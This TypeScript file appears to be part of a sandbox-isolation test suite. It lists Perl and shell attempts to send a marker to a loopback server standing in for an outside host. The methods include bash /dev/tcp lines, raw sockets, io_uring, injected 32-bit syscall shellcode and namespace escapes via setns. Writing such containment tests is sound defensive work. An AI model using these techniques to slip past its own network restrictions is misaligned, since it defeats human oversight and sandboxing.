import { perl, sh, type Attempt } from "../attempt.ts";
import { received } from "../evidence.ts";

const connectTcp = `socket(my $s, AF_INET, SOCK_STREAM, 0); connect($s, pack_sockaddr_in($ENV{TCP}, INADDR_LOOPBACK)); syswrite $s, $mark`;
const unixAddress = (name: string): string => `pack_sockaddr_un("$ENV{SOCKETS}/${name}")`;
const abstractAddress = (name: string): string => `pack('S', AF_UNIX) . "\\0$ENV{ABSTRACT}-${name}"`;
/** `struct msghdr` with one run of bytes and an address. */
const message = `my $bytes = $mark; my $vector = pack 'JJ', address($bytes), length $bytes;
  my $header = pack 'JI x4 JJJJ i x4', address($to), length $to, address($vector), 1, 0, 0, 0`;

/** Telling something to a server outside, by every kind of socket. */
export const sockets: readonly Attempt[] = [
  perl("connects by TCP", "network", connectTcp, received),
  sh("connects by /dev/tcp of bash", "network", `bash -c 'echo "$MARK" > /dev/tcp/127.0.0.1/$TCP'`, received),
  sh("sends by /dev/udp of bash", "network", `bash -c 'echo "$MARK" > /dev/udp/127.0.0.1/$UDP'`, received),
  perl(
    "sends by UDP",
    "network",
    `socket(my $s, AF_INET, SOCK_DGRAM, 0); send $s, $mark, 0, pack_sockaddr_in($ENV{UDP}, INADDR_LOOPBACK)`,
    received,
  ),
  perl(
    "connects by TCP over IPv6",
    "network",
    `socket(my $s, Socket::AF_INET6, SOCK_STREAM, 0); connect $s, Socket::pack_sockaddr_in6($ENV{TCP6}, Socket::IN6ADDR_LOOPBACK); syswrite $s, $mark`,
    received,
  ),
  perl(
    "sends by UDP over IPv6",
    "network",
    `socket(my $s, Socket::AF_INET6, SOCK_DGRAM, 0); send $s, $mark, 0, Socket::pack_sockaddr_in6($ENV{UDP6}, Socket::IN6ADDR_LOOPBACK)`,
    received,
  ),
  perl(
    "sends to an IPv4 address over IPv6",
    "network",
    `socket(my $s, Socket::AF_INET6, SOCK_DGRAM, 0); send $s, $mark, 0, Socket::pack_sockaddr_in6($ENV{UDP}, Socket::inet_pton(Socket::AF_INET6, '::ffff:127.0.0.1'))`,
    received,
  ),
  perl(
    "sends with the first packet of TCP",
    "network",
    `socket(my $s, AF_INET, SOCK_STREAM, 0); send $s, $mark, 0x20000000, pack_sockaddr_in($ENV{TCP}, INADDR_LOOPBACK)`,
    received,
  ),
  perl(
    "connects by TCP over many paths",
    "network",
    `my $s; socket($s, AF_INET, SOCK_STREAM, 262) or socket($s, AF_INET, SOCK_STREAM, 0); connect $s, pack_sockaddr_in($ENV{TCP}, INADDR_LOOPBACK); syswrite $s, $mark`,
    received,
  ),
  perl(
    "sends a raw IP packet",
    "network",
    `socket(my $s, AF_INET, SOCK_RAW, 17); send $s, pack('nnnn', 9, $ENV{UDP}, 8 + length $mark, 0) . $mark, 0, pack_sockaddr_in(0, INADDR_LOOPBACK)`,
    received,
    { bare: { as: "root" } },
  ),
  perl(
    "sends a raw frame",
    "network",
    `socket(my $s, 17, SOCK_DGRAM, 0xb588); send $s, $mark, 0, pack 'SniSCCa8', 17, 0x88b5, 1, 0, 0, 6, "\\0" x 8`,
    received,
    { bare: { as: "root" } },
  ),
  perl(
    "sends by netlink",
    "network",
    `socket(my $s, 16, SOCK_RAW, 2); my $text = pack('ISSII', 16 + length $mark, 16, 1, 1, 0) . $mark; send $s, $text, 0, pack 'SSLL', 16, 0, $ENV{NETLINK}, 0`,
    received,
  ),
  perl(
    "connects by the sockets of virtual machines",
    "network",
    `socket(my $s, 40, SOCK_STREAM, 0); connect $s, pack 'SSLLCx3', 40, 0, $ENV{VSOCK}, 1, 0; syswrite $s, $mark`,
    received,
    {
      bare: { needs: ({ variables }) => variables["VSOCK"] !== "0" },
    },
  ),
  perl(
    "opens a socket of any other family",
    "network",
    `my @open; for my $family (2 .. 45) { for my $type (1, 2, 3, 5) { push @open, $_ if socket $_ = undef, $family, $type, 0 } } wait_for_look()`,
    (_scene, { descriptors, output }) => {
      // Its standard streams are sockets too; what counts is that there are more than without.
      const own = descriptors.filter((each) => each.startsWith("socket:")).length;
      return output.includes("LOOK") && own > 12 ? `${own} sockets` : null;
    },
  ),
  perl(
    "connects to a unix socket",
    "unixSockets",
    `socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect $s, ${unixAddress("stream")}; syswrite $s, $mark`,
    received,
  ),
  perl(
    "sends to a unix socket of datagrams",
    "unixSockets",
    `socket(my $s, AF_UNIX, SOCK_DGRAM, 0); send $s, $mark, 0, ${unixAddress("dgram")}`,
    received,
  ),
  perl(
    "connects to a unix socket of datagrams",
    "unixSockets",
    `socket(my $s, AF_UNIX, SOCK_DGRAM, 0); connect $s, ${unixAddress("dgram")}; send $s, $mark, 0`,
    received,
  ),
  perl(
    "connects to a unix socket of packets",
    "unixSockets",
    `socket(my $s, AF_UNIX, 5, 0); connect $s, ${unixAddress("seqpacket")}; send $s, $mark, 0`,
    received,
  ),
  perl(
    "connects to an abstract unix socket",
    "unixSockets",
    `socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect $s, ${abstractAddress("stream")}; syswrite $s, $mark`,
    received,
  ),
  perl(
    "sends to an abstract unix socket of datagrams",
    "unixSockets",
    `socket(my $s, AF_UNIX, SOCK_DGRAM, 0); send $s, $mark, 0, ${abstractAddress("dgram")}`,
    received,
  ),
  perl(
    "connects to an abstract unix socket of packets",
    "unixSockets",
    `socket(my $s, AF_UNIX, 5, 0); connect $s, ${abstractAddress("seqpacket")}; send $s, $mark, 0`,
    received,
  ),
  perl(
    "sends from a pair of datagram sockets to an address",
    "unixSockets",
    `socketpair my $s, my $t, AF_UNIX, SOCK_DGRAM, 0; my $to = ${unixAddress("dgram")}; ${message}; call('sendmsg', fileno $s, $header, 0); send $s, $mark, 0, $to`,
    received,
  ),
  perl(
    "sends from a pair of raw sockets to an address",
    "unixSockets",
    `socketpair my $s, my $t, AF_UNIX, SOCK_RAW, 0; my $to = ${abstractAddress("dgram")}; ${message}; call('sendmsg', fileno $s, $header, 0)`,
    received,
  ),
  perl(
    "connects one of a pair of datagram sockets anew",
    "unixSockets",
    `socketpair my $s, my $t, AF_UNIX, SOCK_DGRAM, 0; connect $s, ${unixAddress("dgram")}; send $s, $mark, 0`,
    received,
  ),
  sh(
    "connects to a unix socket through a link",
    "unixSockets",
    `ln -s "$SOCKETS/stream" "$WORK/s"; perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect $s, pack_sockaddr_un((-l "$ENV{WORK}/s") ? "$ENV{WORK}/s" : "$ENV{SOCKETS}/stream"); syswrite $s, $ENV{MARK}'`,
    received,
  ),
  perl(
    "opens a socket by io_uring",
    "network",
    `my $params = "\\0" x 120; my $ring = call('io_uring_setup', 4, \\$params); exit if $ring < 0;
     my ($head, $tail, $mask, $entries, $flags, $dropped, $array) = unpack 'x40 I7', $params;
     open my $file, '+<&=', $ring; my $code = 9; my $rings = call('mmap', 0, 4096, 3, 0x8001, $ring, 0); my $entries_at = call('mmap', 0, 4096, 3, 0x8001, $ring, 0x10000000);
     my ($cq_head, $cq_tail, $cq_mask, $cq_entries, $overflow, $cqes) = unpack 'x80 I6', $params;
     my $done = 0;
     sub submit { my ($entry) = @_; my $slot = $done & 3; poke($entries_at + 64 * $slot, $entry); poke($rings + $array + 4 * $slot, pack 'I', $slot); poke($rings + $tail, pack 'I', $done + 1);
       call('io_uring_enter', $ring, 1, 1, 1, 0, 0); my $result = unpack 'x8 i', peek($rings + $cqes + 16 * ($done % 8), 16); $done++; return $result }
     my $socket = submit(pack 'CCSiQQIIQx24', 45, 0, 0, 2, 1, 0, 0, 0, 0); exit if $socket < 0;
     my $to = pack_sockaddr_in($ENV{TCP}, INADDR_LOOPBACK); submit(pack 'CCSiQQIIQx24', 16, 0, 0, $socket, length $to, address($to), 0, 0, 0);
     POSIX::write($socket, $mark, length $mark)`,
    received,
  ),
  perl(
    "opens a socket by the system calls of 32-bit programs",
    "network",
    `require DynaLoader; my $code = "\\x53\\xb8\\x67\\x01\\0\\0\\xbb\\x02\\0\\0\\0\\xb9\\x02\\0\\0\\0\\x31\\xd2\\xcd\\x80\\x5b\\x48\\xb9" . "\\0" x 8 . "\\x89\\x01\\xc3";
     my $at = call('mmap', 0, 4096, 7, 0x22, -1, 0); substr($code, 23, 8) = pack 'Q', $at + 2048; poke($at, $code);
     my $run = DynaLoader::dl_install_xsub('main::opened', $at); eval { &$run() }; my $fd = unpack 'i', peek($at + 2048, 4);
     my $to = pack_sockaddr_in($ENV{UDP}, INADDR_LOOPBACK); call('sendto', $fd, $mark, length $mark, 0, $to, length $to) if $fd > 0`,
    received,
    { bare: { needs: () => process.arch === "x64" } },
  ),
  perl(
    "writes to a socket that it inherited",
    "network",
    `for my $fd (3 .. 9) { next unless -S "/proc/self/fd/$fd"; POSIX::write($fd, $mark, length $mark) }`,
    received,
    { descriptors: ["server", "server", "server"] },
  ),
  perl(
    "makes a network of its own and leaves it",
    "network",
    `call('unshare', 0x10000000 | 0x40000000); for my $pid ($agent, 1, POSIX::getppid()) { open my $net, '<', "/proc/$pid/ns/net"; call('setns', fileno $net, 0) } ${connectTcp}`,
    received,
    {
      bare: {
        never:
          "without walls it first cuts itself off, and an ordinary user does not get back; connecting is shown by the others",
      },
    },
  ),
];
